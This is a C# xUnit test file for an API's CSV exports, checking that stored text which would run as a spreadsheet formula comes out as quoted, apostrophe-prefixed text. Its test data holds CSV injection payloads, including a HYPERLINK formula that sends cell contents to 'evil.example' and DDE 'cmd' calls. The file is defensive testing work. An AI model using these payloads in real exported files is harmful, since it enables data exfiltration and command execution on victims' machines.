using System.Globalization;
using SocialBalance.Api.Infrastructure.Http.Formats;
using SocialBalance.Api.Tests.Features.Writes;
using SocialBalance.Api.Tests.Infrastructure;

namespace SocialBalance.Api.Tests.Http;

/// <summary>
/// CSV answers are safe to open in a spreadsheet: a stored text that would run as a formula comes out as text
/// (apostrophe-prefixed, quoted), on every CSV endpoint, while numbers, negative ones included, stay numbers.
/// </summary>
public abstract class CsvInjectionTests<TDatabase>(DemoApiFixture<TDatabase> fixture)
    : ApiTestBase<TDatabase>(fixture), IClassFixture<DemoApiFixture<TDatabase>>
    where TDatabase : TestDatabase, new()
{
    public static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+2",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    /// <summary>Every CSV endpoint of the contract, with the parameters it requires.</summary>
    private static readonly string[] CsvEndpoints =
    [
        "/api/v1/observations?pageSize=1000", "/api/v1/targets", "/api/v1/areas", "/api/v1/effect-goals", "/api/v1/themes",
        "/api/v1/indicators", "/api/v1/progress?indicator=feel-safe", "/api/v1/comparisons", "/api/v1/comparisons/themes",
        "/api/v1/ambition", "/api/v1/list-status?year=2024", "/api/v1/areas/vaerebro-park/list-status?year=2024",
    ];

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void A_text_that_starts_like_a_formula_is_written_as_quoted_text(string text) =>
        Assert.Equal("\"'" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", Csv.Field(text));

    [Theory]
    [InlineData(-7.4, "-7.4")]
    [InlineData(-1e-7, "-1E-07")]
    [InlineData(3.0, "3")]
    public void A_negative_number_stays_a_number(double value, string expected) => Assert.Equal(expected, Csv.Field(value));

    public static TheoryData<string> HostileTexts() => new(Hostile);

    [SkippableFact]
    public async Task Stored_hostile_notes_come_out_neutralised_on_every_csv_endpoint()
    {
        for (var i = 0; i < Hostile.Length; i++)
        {
            using var posted = await AdminClient.PostFigureAsync(new
            {
                indicator = "voter-turnout",
                area = "hoeje-gladsaxe",
                year = 2001 + i,
                value = 50.0,
                note = Hostile[i],
            });
            Assert.True(posted.IsSuccessStatusCode, await posted.Content.ReadAsStringAsync());
        }

        using (var target = await AdminClient.PostAsJsonAsync("/api/v1/admin/targets", new
        {
            indicator = "voter-turnout",
            area = "hoeje-gladsaxe",
            baselineYear = 2020,
            targetYear = 2030,
            kind = "value",
            targetValue = 60,
            note = new { da = Hostile[0], en = Hostile[4] },
        }))
        {
            Assert.Equal(HttpStatusCode.Created, target.StatusCode);
        }

        Assert.Equal(Hostile.Length, await ScalarAsync(
            "SELECT COUNT(*) FROM observation WHERE indicator_code = 'voter-turnout' AND area_code = 'hoeje-gladsaxe' AND year < 2010 AND note IS NOT NULL"));

        var cells = new List<(string Url, string Cell)>();
        foreach (var url in CsvEndpoints)
        {
            cells.AddRange((await GetCsvAsync(url)).Skip(1).SelectMany(row => row).Select(cell => (url, cell)));
        }

        foreach (var (url, cell) in cells.Where(c => Csv.StartsLikeAFormula(c.Cell)))
        {
            Assert.True(double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{url}: a cell a spreadsheet would run: {cell}");
        }

        var observations = cells.Where(c => c.Url.StartsWith("/api/v1/observations", StringComparison.Ordinal)).Select(c => c.Cell).ToList();
        Assert.All(Hostile, text => Assert.Single(observations, cell => cell == "'" + text));
        Assert.Contains(cells, c => c.Url == "/api/v1/targets" && c.Cell == "'" + Hostile[4]);
        Assert.Contains(cells, c => c.Cell.StartsWith('-') && double.Parse(c.Cell, CultureInfo.InvariantCulture) < 0);
    }
}

public sealed class CsvInjectionSqliteTests(DemoApiFixture<SqliteTestDatabase> fixture)
    : CsvInjectionTests<SqliteTestDatabase>(fixture);

public sealed class CsvInjectionSqlServerTests(DemoApiFixture<SqlServerTestDatabase> fixture)
    : CsvInjectionTests<SqlServerTestDatabase>(fixture);
